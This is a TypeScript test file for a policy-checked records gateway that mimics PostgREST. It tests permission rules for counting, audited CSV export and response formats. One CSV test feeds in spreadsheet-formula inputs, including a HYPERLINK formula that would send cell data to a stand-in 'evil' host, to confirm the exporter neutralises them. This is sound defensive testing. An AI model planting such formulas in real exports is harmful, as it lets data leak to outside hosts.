import { UnavailableError } from '@varco/core'
import { memoryCopies } from '@varco/engagement/testing'
import type { BundleDocument, FetchedRecord } from '@varco/policy'
import { compileBundle } from '@varco/policy'
import { fixtureDocument, memoryRecordSource } from '@varco/policy/testing'
import { describe, expect, test } from 'vitest'
import { gatehouse, GSE, INVOICES, tokenOf, type Gatehouse, type GatehouseOptions } from './gatehouse.ts'

/** The DPO of the fixture: reads, searches, counts and exports everything but what is sealed. */
async function dpo(options: GatehouseOptions = {}): Promise<Gatehouse> {
  const gate = await gatehouse(options)
  const who = {
    authorization: `Bearer ${await tokenOf('dora', { iss: GSE })}`,
    'varco-purpose': 'data-protection',
    'varco-ticket': null,
  }
  return { ...gate, get: (path, headers, method) => gate.get(path, { ...who, ...headers }, method) }
}

type Rule = BundleDocument['access'][number]

const PRODUCERS: readonly FetchedRecord[] = [
  ['P1', 'Anna Rossi'],
  ['P2', 'Bruno Bianchi'],
].map(([id, name]) => ({
  ...{ id, name, tax_code: 'RSSMRA80A01H501U', birth_date: null },
  ...{ email: null, iban: null, region: 'Lazio' },
}))

const COUNT = { prefer: 'count=exact' }
const summary = (response: Response): unknown => [response.status, response.headers.get('content-range')]

describe('counting', () => {
  test('says how many there are beside what is shown, in the log too', async () => {
    const { get, log } = await dpo()
    expect(summary(await get('/records/invoice?select=id', COUNT))).toEqual([200, '0-2/3'])
    expect(log.last).toMatchObject({ action: 'read', detail: { total: 3 } })
    expect(summary(await get('/records/invoice?select=id&limit=2', COUNT))).toEqual([206, '0-1/3'])
    expect(summary(await get('/records/invoice?select=id&offset=2', COUNT))).toEqual([206, '2-2/3'])
    expect(summary(await get('/records/invoice?select=id&id=eq.77', COUNT))).toEqual([200, '*/0'])
    expect(summary(await get('/records/invoice?select=id'))).toEqual([200, '0-2/*'])
    expect(log.last.detail).toBeNull()
  })

  test.each(['count=planned', 'count=estimated', 'return=representation, count=exact'])(
    '%s gives the exact count: an estimate would count what is out of reach',
    async (prefer) => {
      const { get } = await dpo()
      expect(summary(await get('/records/invoice?select=id&limit=1', { prefer }))).toEqual([206, '0-0/3'])
    },
  )

  test('alone, by HEAD, needs no permit to read and discloses no record', async () => {
    const { get, log } = await dpo()
    const response = await get('/records/invoice?producer_id=eq.P1', COUNT, 'HEAD')
    expect(summary(response)).toEqual([200, '*/2'])
    expect(log.last).toMatchObject({
      action: 'count',
      disclosures: [],
      plain: [],
      masked: [],
      detail: { total: 2 },
    })
  })

  describe('by what belongs to the records', () => {
    const named = (name: string): string =>
      `/records/invoice?select=id,producer!inner()&producer.name=eq.${encodeURIComponent(name)}`

    /** The DPO's rule for producers, changed. */
    async function counting(change: (rule: Rule) => Rule): Promise<Gatehouse> {
      const document = fixtureDocument()
      const access = document.access.map((rule) => (rule.id === 'dpo-producer' ? change(rule) : rule))
      return dpo({ bundleInForce: compileBundle({ ...document, access }) })
    }

    test('needs leave to count that too, wherever the filter asks for it', async () => {
      const { get, log } = await counting((rule) => ({ ...rule, actions: ['read', 'search'] }))
      for (const path of [
        ...[named('Anna Rossi'), `${named('Anna Rossi')}&limit=0`, `${named('Anna Rossi')}&offset=50`],
        '/records/invoice?select=id,producer()&producer.name=eq.Zoe&producer=not.is.null',
        '/records/invoice?select=id,producer()&producer.name=eq.Zoe&or=(id.eq.1,producer.is.null)',
      ])
        for (const method of ['GET', 'HEAD']) {
          expect([path, (await get(path, COUNT, method)).status]).toEqual([path, 403])
          expect(log.last).toMatchObject({ action: 'count', resource: 'producer', decision: 'deny' })
        }
      // What is only shown within counts nothing, and what is not counted needs no leave.
      expect(summary(await get('/records/invoice?select=id,producer(name)', COUNT))).toEqual([200, '0-2/3'])
      expect((await get(named('Anna Rossi'))).status).toBe(200)
    })

    test('counts only by those that one may count', async () => {
      const source = memoryRecordSource({ invoice: INVOICES, producer: PRODUCERS })
      const document = fixtureDocument()
      const [rule] = document.access.filter(({ id }) => id === 'dpo-producer')
      if (rule === undefined) throw new Error('the fixture has changed')
      const access = [
        ...document.access.filter(({ id }) => id !== rule.id),
        { ...rule, actions: ['read' as const, 'search' as const] },
        { ...rule, id: 'dpo-producer-count', actions: ['count' as const], where: { id: { eq: 'P2' } } },
      ]
      const { get, log } = await dpo({ bundleInForce: compileBundle({ ...document, access }), source })
      for (const [name, total] of [
        ['Anna Rossi', 0],
        ['Bruno Bianchi', 1],
        ['Zoe', 0],
      ] as const)
        expect(summary(await get(named(name), COUNT, 'HEAD'))).toEqual([200, `*/${total}`])
      expect(log.drafts[1]).toMatchObject({
        ...{ resource: 'producer', filters: [{ field: 'name' }], detail: { embedded_in: 'invoice' } },
        rules: ['dpo-producer', 'dpo-producer-count'],
      })
    })

    test('and skipped beyond the end is recorded level by level', async () => {
      const { get, log } = await dpo()
      expect((await get(`${named('Anna Rossi')}&offset=50`, COUNT)).status).toBe(416)
      expect(log.drafts).toMatchObject([
        { decision: 'deny', resource: 'invoice', reasons: ['PGRST103'], detail: { total: 2 } },
        { decision: 'deny', resource: 'producer', filters: [{ field: 'name' }], disclosures: [] },
      ])
    })
  })

  test('is refused to whoever may read but not count', async () => {
    const { get, log } = await gatehouse()
    for (const method of ['GET', 'HEAD']) {
      expect((await get('/records/invoice?select=id', COUNT, method)).status).toBe(403)
      expect(log.last).toMatchObject({ action: 'count', decision: 'deny', disclosures: [], detail: null })
    }
    expect((await get('/records/invoice?select=id', { prefer: 'count=none' })).status).toBe(200)
  })

  test('a range beyond the end is 416, as PostgREST has it', async () => {
    const { get, log } = await dpo()
    const response = await get('/records/invoice?select=id&offset=4', COUNT)
    expect([response.status, await response.json()]).toMatchObject([
      416,
      { code: 'PGRST103', details: 'There are only 3 rows.' },
    ])
    expect(log.last).toMatchObject({ decision: 'deny', disclosures: [] })
  })

  test('counts by a field only where it may be counted by in plain', async () => {
    const document = withRule({
      id: 'count-without-iban',
      effect: 'permit',
      role: ['auditor'],
      actions: ['read', 'search', 'count'],
      resource: 'invoice',
      purposes: ['data-protection'],
      contracts: ['internal'],
      fields: { plain: ['id', 'status'], masked: { iban: 'last4' }, hidden: [] },
      require: { ticket: 'none', grant: false },
      because: 'una norma qualsiasi',
    })
    const { get } = await dpo({ bundleInForce: compileBundle(asAuditor(document)) })
    expect(summary(await get('/records/invoice?select=id&status=eq.paid', COUNT))).toEqual([200, '0-0/1'])
    const response = await get('/records/invoice?select=id&iban=like.*3456', COUNT, 'HEAD')
    expect(response.status).toBe(400)
  })
})

function withRule(rule: Rule): BundleDocument {
  return {
    ...fixtureDocument(),
    access: [...fixtureDocument().access.filter(({ role }) => !role?.includes('dpo')), rule],
  }
}

/** The fixture's DPO under another name. */
function asAuditor(document: BundleDocument): BundleDocument {
  return {
    ...document,
    access: document.access.map((rule) =>
      rule.role?.includes('auditor') ? { ...rule, role: ['dpo'] } : rule,
    ),
  }
}

describe('CSV', () => {
  const CSV = { accept: 'text/csv' }

  test('a text that a spreadsheet would take for a formula stands behind an apostrophe; a number keeps its sign', async () => {
    const formulas = ['=HYPERLINK("http://evil/?"&A1)', '+1', '-1', '@x', '\t=1', '＝1', 'a=1', "'=1"]
    const invoices = formulas.map((number, id) => ({ ...INVOICES[0], id: String(id), number, amount: '-5' }))
    const { get } = await dpo({ source: memoryRecordSource({ invoice: invoices }) })
    const table = await (
      await get('/records/invoice?select=number,amount,text:amount::text&order=id', CSV)
    ).text()
    expect(table.split('\n')).toEqual([
      'number,amount,text',
      `"'=HYPERLINK(""http://evil/?""&A1)",-5,-5`,
      ...["'+1", "'-1", "'@x", "'\t'=1", "'＝1", 'a=1', "'=1"].map((cell) => `${cell},-5,-5`),
    ])
    // Whoever asks names the columns, and may give the table to somebody else.
    const named = await (await get('/records/invoice?select==1:id&id=eq.1', CSV)).text()
    expect(named).toBe("'=1\n1")
  })

  test('is an export, for those who may', async () => {
    const { get, log } = await dpo()
    const response = await get('/records/invoice?select=id,number,amount,issued_on&order=id', CSV)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(await response.text()).toBe(
      'id,number,amount,issued_on\n1,2026/1,120.50,2026-02-01\n2,2026/2,12345678901234567890.10,\n4,2026/4,9,2026-02-01',
    )
    expect(log.last).toMatchObject({ action: 'export', decision: 'permit' })
    expect(log.last.disclosures).toHaveLength(3)
  })

  test('leaves as a copy that is written down first and carries its owner, its purpose and its last day', async () => {
    const copies = memoryCopies()
    const { get } = await dpo({ copies })
    const response = await get('/records/invoice?select=id&order=id&limit=2', CSV)
    const mark = `${response.headers.get('varco-event')} GSE-2C81 data-protection until 2026-07-15`
    expect(await response.text()).toBe(`id,varco_copy\n1,${mark}\n2,${mark}`)
    expect(await copies.copies({ limit: 9 })).toMatchObject([
      { kind: 'records', owner: 'GSE-2C81', contract: null, records: 2, settled: null },
    ])
    await (await get('/records/invoice?select=id')).text()
    expect(await copies.copies({ limit: 9 })).toHaveLength(1)
  })

  test('shows nothing while the copy cannot be written down', async () => {
    const gone = async (): Promise<never> => {
      throw new UnavailableError('copies ledger')
    }
    const { get } = await dpo({ copies: { addCopy: gone } })
    const response = await get('/records/invoice?select=number', CSV)
    expect(response.status).toBe(503)
    expect(await response.text()).not.toContain('2026/1')
  })

  test('is refused to those who may only read', async () => {
    const { get, log } = await gatehouse()
    expect((await get('/records/invoice?select=id', CSV)).status).toBe(403)
    expect(log.last).toMatchObject({ action: 'export', decision: 'deny' })
  })

  test('quotes what needs quotes, and tells an empty text from none', async () => {
    const odd: readonly FetchedRecord[] = [
      { ...INVOICES[0], id: '1', number: 'a,"b"\r\nc', period: '', iban: null },
      { ...INVOICES[0], id: '2', number: '=1+1', period: 'p', iban: 'x' },
    ]
    const { get } = await dpo({ source: memoryRecordSource({ invoice: odd }) })
    const response = await get('/records/invoice?select="no,":number,period,iban&order=id', CSV)
    expect(await response.text()).toBe('"no,",period,iban\n"a,""b""\r\nc","",\n\'=1+1,p,x')
  })
})

describe('formats', () => {
  const ONE = '/records/invoice?id=eq.1&select=id,number'

  test('one object where one record was asked for', async () => {
    const { get } = await gatehouse()
    const response = await get(ONE, { accept: 'application/vnd.pgrst.object+json' })
    expect(response.headers.get('content-type')).toBe('application/vnd.pgrst.object+json; charset=utf-8')
    expect(await response.json()).toEqual({ id: 1, number: '2026/1' })
  })

  test.each([
    ['/records/invoice?select=id', 'The result contains more than 1 rows', 2],
    ['/records/invoice?id=eq.77&select=id', 'The result contains 0 rows', 0],
  ])(
    '%s is not one record: 406, nothing shown, and whose records were counted is recorded',
    async (path, details, disclosed) => {
      const { get, log } = await gatehouse()
      const response = await get(path, { accept: 'application/vnd.pgrst.object+json' })
      expect([response.status, await response.json()]).toMatchObject([406, { code: 'PGRST116', details }])
      expect(log.last).toMatchObject({ decision: 'deny', reasons: ['PGRST116'], plain: [], masked: [] })
      expect(log.last.disclosures).toHaveLength(disclosed)
    },
  )

  test('members that are null are left out on demand', async () => {
    const { get } = await dpo()
    const path = '/records/invoice?id=eq.2&select=id,issued_on'
    const array = await get(path, { accept: 'application/vnd.pgrst.array+json;nulls=stripped' })
    expect([array.headers.get('content-type'), await array.json()]).toEqual([
      'application/vnd.pgrst.array+json; nulls=stripped; charset=utf-8',
      [{ id: 2 }],
    ])
    const object = await get(path, { accept: 'application/vnd.pgrst.object+json; nulls=stripped' })
    expect(await object.json()).toEqual({ id: 2 })
  })

  test.each(['application/xml', 'image/*', 'application/geo+json'])('%s is 406, recorded', async (accept) => {
    const { get, log } = await gatehouse()
    expect((await get(ONE, { accept })).status).toBe(406)
    expect(log.last).toMatchObject({ decision: 'deny', reasons: ['not-acceptable'] })
    expect((await get(ONE, { accept: `${accept}, */*;q=0.1` })).status).toBe(200)
  })

  test('a number as text, a mask as it is', async () => {
    const { json } = await gatehouse()
    expect(await json('/records/invoice?id=eq.1&select=id::text,n:amount::text,iban::text')).toEqual([
      { id: '1', n: '120.50', iban: '***3456' },
    ])
  })
})
